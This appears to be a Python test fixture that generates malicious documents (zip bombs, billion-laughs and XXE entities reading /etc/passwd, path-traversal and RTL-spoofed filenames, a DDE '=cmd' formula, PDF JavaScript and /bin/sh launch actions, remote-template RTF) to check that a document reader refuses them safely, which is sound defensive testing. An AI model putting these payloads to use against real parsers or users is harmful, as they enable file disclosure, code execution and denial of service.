"""Files made to harm a reader, each small; the few that must be large are made when they are asked for.

``made(address)`` yields them. ``address`` is a listener of the test's own, to which whatever can refer elsewhere
refers: it must never hear of any.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

FORMATS = Path(__file__).parents[1] / "formats" / "files"
READ = "read"
#: what a damaged file may be refused as: which part of it fails first is the library's affair
DAMAGED = frozenset(("damaged-file", "unsupported-format"))
BEYOND = frozenset(("beyond-limits", "damaged-file"))
ANY = DAMAGED | BEYOND | {READ, "empty-file", "scanned-file", "protected-file"}

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
XML = '<?xml version="1.0" encoding="UTF-8"?>'
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 '责任'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
CLAUSE = "1.做好工作。（牵头单位：区教委；责任单位：区财政局）"


@dataclass(frozen=True)
class Hostile:
    """A file, and what may become of it: codes of refusals, or READ."""

    name: str
    data: bytes
    outcomes: frozenset[str]


def zipped(parts: dict[str, bytes | str], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def word(body: str, *, head: str = "", more: dict[str, bytes | str] | None = None, relations: str = "") -> bytes:
    """A small Word document."""
    main = f'{XML}{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="a/b"/>'
        f'<Override PartName="/word/document.xml" ContentType="{kind}.document.main+xml"/>'
        f'<Override PartName="/word/styles.xml" ContentType="{kind}.styles+xml"/>'
        f'<Override PartName="/word/numbering.xml" ContentType="{kind}.numbering+xml"/></Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{P}"><Relationship Id="r1" Type="{R}/officeDocument"'
        ' Target="word/document.xml"/></Relationships>',
        "word/document.xml": main,
        "word/_rels/document.xml.rels": f'{XML}<Relationships xmlns="{P}">{relations}</Relationships>',
    }
    return zipped(parts | (more or {}))


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def relation(kind: str, target: str, *, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="x{len(target)}{len(kind)}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def sheet(rows: str, *, strings: str = "", more: dict[str, bytes | str] | None = None, after: str = "") -> bytes:
    """A small workbook."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{P}"><Relationship Id="r1" Type="{R}/officeDocument"'
        ' Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{XML}<workbook xmlns="{space}" xmlns:r="{R}"><sheets>'
        '<sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{P}">'
        f'<Relationship Id="r1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{R}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{XML}<worksheet xmlns="{space}"><sheetData>{rows}</sheetData>{after}</worksheet>',
        "xl/sharedStrings.xml": strings or f'{XML}<sst xmlns="{space}"><si><t>责任单位</t></si></sst>',
    }
    return zipped(parts | (more or {}))


def cell(place: str, words: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


def pdf(content: bytes, *, page: str = "", more: tuple[bytes, ...] = (), stream: str = "", catalog: str = "") -> bytes:
    """A small PDF of one page; ``more`` are objects from 6 on."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        + f"/Resources << /Font << /F 5 0 R >> {page} >> >>".encode(),
        f"<< /Length {len(content)} {stream} >>\nstream\n".encode() + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    out += f"trailer << /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def show(words: str) -> bytes:
    return f"BT /F 12 Tf 60 700 Td ({words}) Tj ET".encode()


def ofd(content: str, *, root: str = "Doc_0/Document.xml", head: str = "") -> bytes:
    """A small OFD of one page."""
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    return zipped(
        {
            "OFD.xml": f"{XML}<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
            "Doc_0/Document.xml": f"{XML}<ofd:Document {space}><ofd:CommonData><ofd:PageArea>"
            "<ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages>"
            '<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>',
            "Doc_0/Pages/Page_0/Content.xml": f"{XML}{head}<ofd:Page {space}><ofd:Content><ofd:Layer>{content}"
            "</ofd:Layer></ofd:Content></ofd:Page>",
        }
    )


def text_object(words: str, deltas: str = "") -> str:
    return (
        f'<ofd:TextObject ID="9" Boundary="20 20 150 6" Size="4"><ofd:TextCode X="0" Y="4" DeltaX="{deltas}">{words}'
        "</ofd:TextCode></ofd:TextObject>"
    )


def made(address: str) -> Iterator[Hostile]:
    """All of them."""
    for family in (_containers, _words, _sheets, _pdfs, _pages, _fixed, _older, _names):
        yield from family(address)


def _containers(_: str) -> Iterator[Hostile]:
    whole = word(paragraph(CLAUSE))
    spaces = b" " * (300 * 1024 * 1024)
    yield Hostile("bomb.docx", word("", more={"word/media.bin": spaces}), BEYOND)
    yield Hostile("document-bomb.docx", word("", more={"word/document.xml": spaces[: 80 * 1024 * 1024]}), BEYOND)
    yield Hostile("entries.docx", word("", more={f"word/{n}.xml": "" for n in range(6000)}), BEYOND)
    nested = whole
    for depth in range(20):
        nested = zipped({f"{depth}.zip": nested})
    yield Hostile("nested.docx", nested, DAMAGED)
    yield Hostile("overlap.docx", _overlapping(4000), BEYOND)
    yield Hostile("half.docx", whole[: len(whole) // 2], DAMAGED)
    yield Hostile("no-directory.docx", whole[: whole.rindex(b"PK\x01\x02")], DAMAGED)
    yield Hostile("head-only.docx", b"PK\x03\x04" + b"\x00" * 60, DAMAGED)
    yield Hostile("locked-entries.docx", _flagged(whole), frozenset(("protected-file",)))
    yield Hostile("method.docx", whole.replace(b"\x08\x00", b"\x63\x00"), DAMAGED | {READ})
    yield Hostile("crc.docx", _crc(whole), DAMAGED)
    yield Hostile("up.docx", word(paragraph(CLAUSE), more={"../../../../tmp/zeren-hostile": "x"}), frozenset((READ,)))
    yield Hostile("nul.docx", word(paragraph(CLAUSE), more={"word/a\x00b.xml": "x"}), DAMAGED | {READ})
    yield Hostile("rtl.docx", word(paragraph(CLAUSE), more={"word/\u202egpj.exe": "x"}), frozenset((READ,)))
    yield Hostile("plain.zip", zipped({"方案.txt": CLAUSE}), DAMAGED)


def _words(address: str) -> Iterator[Hostile]:
    one = paragraph(CLAUSE)
    yield Hostile("laughs.docx", word(paragraph("&a11;"), head=LAUGHS + "]>"), BEYOND | {READ, "empty-file"})
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{address}/entity">]>'
    yield Hostile("entity.docx", word(one + paragraph("&e;&h;"), head=entity), DAMAGED | {READ})
    yield Hostile("dtd.docx", word(one, head=f'<!DOCTYPE x SYSTEM "{address}/x.dtd">'), DAMAGED | {READ})
    deep = "<w:ins>" * 4000 + one + "</w:ins>" * 4000
    yield Hostile("deep.docx", word(deep), BEYOND)
    tables = "<w:tbl><w:tr><w:tc>" * 60 + one + "</w:tc></w:tr></w:tbl>" * 60
    yield Hostile("tables.docx", word(tables), BEYOND | {READ})
    wide = (
        "<w:tbl>"
        + "<w:tr>"
        + '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc>' * 3000
        + "</w:tr></w:tbl>"
    )
    yield Hostile("wide.docx", word(wide), BEYOND)
    yield Hostile("long.docx", word(paragraph("责" * 6_000_000)), BEYOND)
    yield Hostile("macro.docm", word(one, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}), frozenset((READ,)))
    outside = relation("attachedTemplate", f"{address}/t.dotm") + relation("image", f"{address}/i.png")
    outside += relation("aFChunk", f"{address}/c.html") + relation("footnotes", f"{address}/f.xml")
    yield Hostile("outside.docx", word(one + '<w:altChunk r:id="x1"/>', relations=outside), frozenset((READ,)))
    yield Hostile("empty.docx", zipped({"word/x.xml": "x"}), DAMAGED)
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 9}"/></w:style>' for n in range(9))
    around = relation("styles", "styles.xml", outside=False)
    cyclic = word(
        '<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr><w:r><w:t>' + CLAUSE + "</w:t></w:r></w:p>",
        relations=around,
        more={"word/styles.xml": f'{XML}<w:styles xmlns:w="{W}">{styles}</w:styles>'},
    )
    yield Hostile("styles.docx", cyclic, frozenset((READ,)))
    yield Hostile("numbering.docx", _numbering(), frozenset((READ,)))


def _sheets(address: str) -> Iterator[Hostile]:
    row = f'<row r="1">{cell("A1", CLAUSE)}</row>'
    yield Hostile("strings.xlsx", sheet(row, more={"xl/sharedStrings.xml": b" " * (200 * 1024 * 1024)}), BEYOND)
    yield Hostile("corner.xlsx", sheet(row + f'<row r="1048576">{cell("XFD1048576", "责任")}</row>'), BEYOND)
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    laughs = f'{XML}{LAUGHS}]><sst xmlns="{space}"><si><t>&a11;</t></si></sst>'
    yield Hostile("laughs.xlsx", sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings=laughs), ANY)
    merges = '<mergeCells count="200000">' + '<mergeCell ref="A1:XFD1048576"/>' * 200_000 + "</mergeCells>"
    yield Hostile("merges.xlsx", sheet(row, after=merges), BEYOND | {READ})
    formula = cell("A1", "=cmd|'/c calc'!A1") + '<c r="B1"><f>WEBSERVICE("' + address + '/f")</f><v>1</v></c>'
    yield Hostile("formula.xlsx", sheet(f'<row r="1">{formula}</row>'), frozenset((READ,)))
    links = {"xl/externalLinks/externalLink1.xml": "<x/>", "xl/connections.xml": f'<x url="{address}"/>'}
    yield Hostile("links.xlsx", sheet(row, more=dict(links)), frozenset((READ,)))
    whole = (FORMATS / "table.xlsx").read_bytes()
    yield Hostile("half.xlsx", whole[: len(whole) // 2], DAMAGED)
    yield Hostile("table.pdf", whole, frozenset((READ,)))
    yield Hostile("half.xls", (FORMATS / "table.xls").read_bytes()[:9000], DAMAGED | {READ})


def _pdfs(address: str) -> Iterator[Hostile]:
    squeezed = zlib.compress(zlib.compress(b" " * (400 * 1024 * 1024), 9), 9)
    yield Hostile("flate.pdf", pdf(squeezed, stream="/Filter [/FlateDecode /FlateDecode]"), ANY)
    shown = zlib.compress(show("1234567890" * 30) * 40_000, 9)
    yield Hostile("words.pdf", pdf(shown, stream="/Filter /FlateDecode"), BEYOND)
    forms = tuple(
        f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length {13 * 40}"
        f" /Resources << /XObject << /X {n + 1} 0 R >> >> >>\nstream\n".encode()
        + b"q /X Do Q    " * 40
        + b"\nendstream"
        for n in range(6, 18)
    )
    yield Hostile("forms.pdf", pdf(show("x") + b" /X Do", page="/XObject << /X 6 0 R >>", more=forms), ANY)
    loop = pdf(show("loop")).replace(b"/Kids [3 0 R] /Count 1", b"/Kids [2 0 R 2 0 R] /Count 999999999")
    yield Hostile("kids.pdf", loop, ANY)
    many = pdf(show("many")).replace(b"/Kids [3 0 R] /Count 1", b"/Kids [" + b"3 0 R " * 60_000 + b"] /Count 60000")
    yield Hostile("pages.pdf", many, ANY)
    prev = pdf(show("prev")).replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev 9 >>")
    yield Hostile("prev.pdf", prev, ANY)
    whole = (FORMATS / "000.pdf").read_bytes()
    yield Hostile("half.pdf", whole[: len(whole) // 2], ANY)
    yield Hostile("head.pdf", whole[:600], DAMAGED)
    yield Hostile("scan.pdf", pdf(b"q 500 0 0 700 0 0 cm /I Do Q", page="/XObject << /I 6 0 R >>", more=(_picture(),)),
                  frozenset(("scanned-file",)))  # fmt: skip
    action = f"/OpenAction << /S /JavaScript /JS (app.launchURL('{address}/js')) >>"
    yield Hostile("script.pdf", pdf(show("some words of a plan"), catalog=action), frozenset((READ,)))
    launch = f"/AA << /WC << /S /Launch /F (/bin/sh) >> >> /OpenAction << /S /URI /URI ({address}/uri) >>"
    yield Hostile("launch.pdf", pdf(show("some words of a plan"), catalog=launch), frozenset((READ,)))
    rules = b"".join(f"{n % 500} {n // 500} m {n % 500} 800 l S\n".encode() for n in range(60_000))
    yield Hostile("rules.pdf", pdf(show("some words of a plan") + b"\n" + rules), BEYOND | {READ})
    grid = b"".join(f"{n} 20 m {n} 820 l S 20 {n} m 580 {n} l S\n".encode() for n in range(20, 580, 2))
    yield Hostile("grid.pdf", pdf(show("some words of a plan") + b"\n" + grid), BEYOND | {READ})
    yield Hostile("polyglot.pdf", pdf(show("some words of a plan")) + word(paragraph(CLAUSE)), frozenset((READ,)))
    locked = pdf(show("locked")).replace(
        b"/Root 1 0 R >>",
        b"/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <" + b"41" * 32 + b"> /U <"
        + b"42" * 32 + b"> >> >>",
    )  # fmt: skip
    yield Hostile("locked.pdf", locked, frozenset(("protected-file",)) | DAMAGED)


def _pages(address: str) -> Iterator[Hostile]:
    head = "<!DOCTYPE html><html><head><meta charset=utf-8>"
    yield Hostile("deep.html", (head + "<div>" * 200_000 + CLAUSE).encode(), BEYOND)
    outside = (
        f'<link rel=stylesheet href="{address}/c.css"><script src="{address}/s.js"></script></head><body>'
        f'<img src="{address}/i.png"><iframe src="{address}/f"></iframe><object data="{address}/o"></object>'
        f'<meta http-equiv=refresh content="0;url={address}/r"><p>{CLAUSE}</p>'
    )
    yield Hostile("outside.html", (head + outside).encode(), frozenset((READ,)))
    spans = "<table>" + "<tr><td colspan=99999 rowspan=99999>x</td><td>y</td></tr>" * 4000 + "</table>"
    yield Hostile("spans.html", (head + spans).encode(), BEYOND)
    rows = "<table>" + "<tr>" + "<td>责任单位</td>" * 200 + "</tr>" * 1
    yield Hostile("wide.html", (head + rows * 3 + "<tr>" + "<td>x" * 450_000).encode(), BEYOND)
    yield Hostile("nul.html", (head + f"<p>{CLAUSE}\x00\x00</p>").encode(), frozenset((READ,)))
    yield Hostile(
        "bytes.html", b"<html><meta charset=gb2312><p>" + bytes(range(128, 256)) * 50, ANY | {"undecodable-file"}
    )
    lists = "".join(f"<ul><li><a href=/{n}>一</a><a href=/x>二</a>" for n in range(3000))
    yield Hostile("lists.html", (head + lists + f"<p>{CLAUSE}").encode(), ANY)
    parts = "".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(3000))
    mht = f"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b0\n\n{parts}"
    yield Hostile("parts.mht", mht.encode(), BEYOND)


def _fixed(address: str) -> Iterator[Hostile]:
    yield Hostile("steps.ofd", ofd(text_object("责任单位：区教委", "g 999999999 4")), frozenset((READ,)))
    blocks = "<ofd:PageBlock>" * 240 + text_object("x") + "</ofd:PageBlock>" * 240
    yield Hostile("blocks.ofd", ofd(blocks), BEYOND)
    yield Hostile("up.ofd", ofd(text_object("x"), root="../../../../etc/passwd"), DAMAGED)
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{address}/o">]>'
    yield Hostile("entity.ofd", ofd(text_object("&e;&h;"), head=entity), DAMAGED)
    yield Hostile("laughs.ofd", ofd(text_object("&a11;"), head=LAUGHS + "]>"), DAMAGED)
    whole = (FORMATS / "000.ofd").read_bytes()
    yield Hostile("half.ofd", whole[: len(whole) // 2], DAMAGED)


def _older(address: str) -> Iterator[Hostile]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield Hostile("head.doc", ole + b"\x00" * 2000, DAMAGED)
    yield Hostile("half.doc", (FORMATS / "000.doc").read_bytes()[:14_000], ANY)
    name = "EncryptedPackage".encode("utf-16-le") + b"\0\0"
    entry = name.ljust(64, b"\0") + struct.pack("<H", len(name)) + b"\x02" + b"\0" * 61
    yield Hostile("locked.docx", ole + b"\0" * 504 + b"\0" * 512 + entry, frozenset(("protected-file",)))
    remote = r"{\rtf1{\*\template " + address + r"/t.dot}{\field{\*\fldinst INCLUDEPICTURE \"" + address
    remote += r"/p.png\" \\d}{\fldrslt x}} some words of a plan}"
    yield Hostile("remote.rtf", remote.encode(), ANY)
    yield Hostile("groups.rtf", rb"{\rtf1" + b"{" * 300_000 + b"x", ANY)


def _names(_: str) -> Iterator[Hostile]:
    data = word(paragraph(CLAUSE))
    read = frozenset((READ,))
    yield Hostile("../../../../tmp/zeren-hostile.docx", data, read)
    yield Hostile("方案\u202exslx.docx", data, read)
    yield Hostile("长" * 300 + ".docx", data, read)
    yield Hostile("con.docx ", data, read)


def _overlapping(count: int) -> bytes:
    """A directory whose entries all name the same packed bytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = b"\x00" * 1_000_000
    body = packed.compress(raw) + packed.flush()
    common = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, zlib.crc32(raw), len(body), len(raw))
    local = b"PK\x03\x04" + common + struct.pack("<HH", 10, 0) + b"word/x.xml" + body
    directory = b"".join(
        b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
        for name in (f"word/{n}.xml".encode() for n in range(count))
    )
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(local), 0)
    return local + directory + b"PK\x05\x06" + end


def _flagged(data: bytes) -> bytes:
    """Every entry says that it is encrypted."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(changed)


def _crc(data: bytes) -> bytes:
    """Every entry's checksum is wrong."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = data.find(mark)
        while at >= 0:
            changed[at + offset] ^= 0xFF
            at = data.find(mark, at + 4)
    return bytes(changed)


def _numbering() -> bytes:
    level = (
        '<w:lvl w:ilvl="{0}"><w:start w:val="99999999999999999999"/><w:numFmt w:val="upperRoman"/>'
        '<w:lvlText w:val="%1%2%3%9' + "%1" * 500 + '"/></w:lvl>'
    )
    levels = "".join(level.format(n) for n in ("0", "1", "-1", "99", "x"))
    root = (
        f'{XML}<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    listed = '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    listed += "<w:r><w:t>做好</w:t></w:r></w:p>"
    body = "".join(listed.format(n) for n in ("0", "1", "8", "99", "-5", "x"))
    around = relation("numbering", "numbering.xml", outside=False)
    return word(body + paragraph(CLAUSE), relations=around, more={"word/numbering.xml": root})


def _picture() -> bytes:
    head = (
        b"<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 4 >>"
    )
    return head + b"\nstream\n\x00\xff\x00\xff\nendstream"


FAMILIES: tuple[Callable[[str], Iterator[Hostile]], ...] = (
    *(_containers, _words, _sheets, _pdfs, _pages, _fixed, _older, _names),
)
